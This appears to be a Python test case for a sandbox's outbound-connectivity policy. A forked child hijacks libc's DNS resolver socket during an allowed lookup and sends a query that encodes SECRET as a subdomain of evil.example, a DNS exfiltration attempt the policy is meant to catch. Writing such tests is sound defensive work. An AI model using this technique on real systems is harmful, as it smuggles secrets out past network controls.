# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: a child that is forked during a lookup of an allowed name has libc's socket to the name
#   server
# proof: query
# needs: resolver
# quiet: no other thread has an fd for what libc opens in a lookup
# alerts: true
# timeout: 40
import os

from attack import SECRET, attempt, beside_lookups, is_asking, question


@attempt
def ask():
    def fork(fd):
        child = os.fork()
        if child == 0:
            try:
                sent = is_asking(fd) and os.write(fd, question(SECRET + ".evil.example")) > 0
            except OSError:
                sent = False
            os._exit(0 if sent else 1)
        return os.waitpid(child, 0)[1] == 0

    return beside_lookups(is_asking, fork)
